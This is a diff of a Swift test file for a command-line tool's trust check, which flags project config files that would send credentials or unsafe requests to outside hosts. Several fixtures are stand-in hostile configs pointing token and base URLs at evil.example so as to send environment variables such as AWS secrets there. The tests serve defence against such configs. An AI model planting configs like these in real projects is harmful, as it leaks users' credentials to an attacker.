@@ -114,8 +114,10 @@ struct TrustTests {
         file: "auth: {o.token-url: 'https://evil.example/t', o.client-secret: 'env:AWS', a: 'env:B'}\n",
         arguments: ["verify", "https://api.example"],
         requests: [
+          "sends the environment variable AWS as the credential o.client-secret to https://api.example (contract.yaml:1:7)",
+          "sends the environment variable B as the credential a to https://api.example (contract.yaml:1:7)",
           "sends the environment variable AWS as the credential o.client-secret to https://evil.example/t "
-            + "(contract.yaml:1:7)"
+            + "(contract.yaml:1:7)",
         ]
       ),
       Run(
@@ -123,13 +125,64 @@ struct TrustTests {
         file: "auth: {o.token-url: //evil.example/t, o.password: 'env:AWS'}\n",
         arguments: ["verify", "http://127.0.0.1:80"],
         requests: [
-          "sends the environment variable AWS as the credential o.password to http://evil.example/t (contract.yaml:1:7)"
+          "sends the environment variable AWS as the credential o.password to http://127.0.0.1:80 (contract.yaml:1:7)",
+          "sends the environment variable AWS as the credential o.password to http://evil.example/t (contract.yaml:1:7)",
         ]
       ),
       Run(
         testDescription: "a host that only begins like this machine",
         file: "base-url: http://localhost.evil.example\nallow-unsafe: [a]\n",
         requests: ["sends unsafe requests (a) to http://localhost.evil.example (contract.yaml:2:15)"]
+      ),
+      Run(
+        testDescription: "a variable of the file for an address on the command line",
+        file: "auth: {a: 'env:TOKEN'}\nallow-unsafe: true\nbase-url: https://evil.example\n",
+        arguments: ["verify", "--base-url", "https://api.example"],
+        requests: [
+          "sends the environment variable TOKEN as the credential a to https://api.example (contract.yaml:1:7)"
+        ]
+      ),
+      Run(
+        testDescription: "a variable of the file for an address in the environment",
+        file: "input-env: {a: TOKEN}\n",
+        environment: ["CONTRACT_BASE_URL": "http://127.0.0.1:80"],
+        requests: [
+          "sends the environment variable TOKEN as the workflow input a to http://127.0.0.1:80 (contract.yaml:1:12)"
+        ]
+      ),
+      Run(
+        testDescription: "a variable of the file for the API of the last run",
+        file: "auth: {a: 'env:TOKEN'}\n",
+        arguments: ["replay", "abc"],
+        requests: ["sends the environment variable TOKEN as the credential a to the API of the run (contract.yaml:1:7)"]
+      ),
+      Run(
+        testDescription: "a variable of the file for a port of this machine, which may be that of a container",
+        file: "base-url: live\ntargets: {live: {url: 'http://localhost:8080', header-env: {X: Y}}}\n",
+        requests: ["sends the environment variable Y as the header X to http://localhost:8080 (contract.yaml:2:17)"]
+      ),
+      Run(
+        testDescription: "a file of the project for a port of this machine",
+        file: "base-url: 'http://[::1]:80'\nauth: {a: 'file:../key'}\n",
+        requests: ["sends the file ../key as the credential a to http://[::1]:80 (contract.yaml:2:7)"]
+      ),
+      Run(
+        testDescription: "a name below localhost, which a resolver may know",
+        file: "base-url: http://api.localhost:8080\nallow-unsafe: [a]\n",
+        requests: ["sends unsafe requests (a) to http://api.localhost:8080 (contract.yaml:2:15)"]
+      ),
+      Run(
+        testDescription: "an address that means every interface",
+        file: "base-url: http://0.0.0.0:8080\nallow-unsafe: [a]\n",
+        requests: ["sends unsafe requests (a) to http://0.0.0.0:8080 (contract.yaml:2:15)"]
+      ),
+      Run(
+        testDescription: "an address of IPv6 that means every interface",
+        file: "base-url: 'http://[::]:8080'\n",
+        arguments: ["verify", "--auth", "bearer=env:MINE"],
+        requests: [
+          "sends the environment variable MINE as the credential bearer to http://[::]:8080 (contract.yaml:1:11)"
+        ]
       ),
       Run(
         testDescription: "a host that looks like user information",
@@ -145,24 +198,30 @@ struct TrustTests {
     arguments: [
       Run(
         testDescription: "an address on the command line",
-        file: "auth: {a: 'env:TOKEN'}\nallow-unsafe: true\nbase-url: https://evil.example\n",
+        file: "allow-unsafe: true\nbase-url: https://evil.example\n",
         arguments: ["verify", "--base-url", "https://api.example"]
       ),
       Run(
         testDescription: "an address as an argument",
-        file: "auth: {a: 'env:TOKEN'}\nallow-unsafe: true\nbase-url: https://evil.example\n",
+        file: "allow-unsafe: true\nbase-url: https://evil.example\n",
         arguments: ["verify", "https://api.example"]
       ),
       Run(
         testDescription: "an address in the environment",
-        file: "auth: {a: 'env:TOKEN'}\nbase-url: https://evil.example\n",
+        file: "allow-unsafe: true\nbase-url: https://evil.example\n",
         environment: ["CONTRACT_BASE_URL": "https://api.example"]
       ),
       Run(
-        testDescription: "this machine",
-        file:
-          "base-url: live\ntargets: {live: {url: 'http://localhost:8080', header-env: {X: Y}}}\nauth: {a: 'env:T'}\n"
+        testDescription: "the user's own credential for this machine",
+        file: "base-url: live\ntargets: {live: {url: 'http://localhost:8080', allow-unsafe: true}}\n",
+        arguments: ["verify", "--auth", "bearer=env:MINE", "-H", "Authorization: Bearer x"]
       ),
+      Run(
+        testDescription: "the user's own credential in place of that of the file",
+        file: "auth: {a: 'env:TOKEN'}\n",
+        arguments: ["verify", "https://api.example", "--auth", "a=env:MINE"]
+      ),
+      Run(testDescription: "a run without an API, which serves itself", file: "auth: {a: 'env:TOKEN'}\n"),
       Run(testDescription: "this machine by number", file: "base-url: http://127.1.2.3\nallow-unsafe: all\n"),
       Run(testDescription: "this machine by IPv6", file: "base-url: 'http://[::1]:80'\nallow-unsafe: all\n"),
       Run(
@@ -173,13 +232,13 @@ struct TrustTests {
       ),
       Run(
         testDescription: "a token URL of the user's own target",
-        file: "auth: {o.token-url: 'https://api.example/t', o.client-secret: 'env:S'}\n",
-        arguments: ["verify", "https://api.example"]
+        file: "auth: {o.token-url: 'https://api.example/t'}\n",
+        arguments: ["verify", "https://api.example", "--header-env", "X-Key=KEY"]
       ),
       Run(
         testDescription: "a relative token URL",
-        file: "auth: {o.token-url: /oauth/t, o.client-secret: 'env:S'}\n",
-        arguments: ["verify", "https://api.example"]
+        file: "auth: {o.token-url: /oauth/t}\n",
+        arguments: ["verify", "https://api.example", "--header-env", "X-Key=KEY"]
       ),
       Run(testDescription: "a check, which sends nothing", file: "base-url: live\n" + evil, arguments: ["check"]),
     ]
@@ -230,8 +289,8 @@ struct TrustTests {
     let first = try configuration("base-url: https://evil.example\n")
     let refusal =
       "FOLDER/contract.yaml is not trusted, and a run with it sends X as the header Y to https://evil.example (a:1:1); "
-      + "read the file, then run contract trust --config FOLDER/contract.yaml; or name the API's URL yourself with "
-      + "--base-url; on a build server, set CONTRACT_TRUST=1"
+      + "read the file, then run contract trust --config FOLDER/contract.yaml; or name the API and the variables "
+      + "yourself, with --base-url, --auth and --header-env; on a build server, set CONTRACT_TRUST=1"
     #expect(message(first, environment) == refusal)
     let store = try TrustStore(environment)
     try store.write([TrustStore.entry(of: first)])
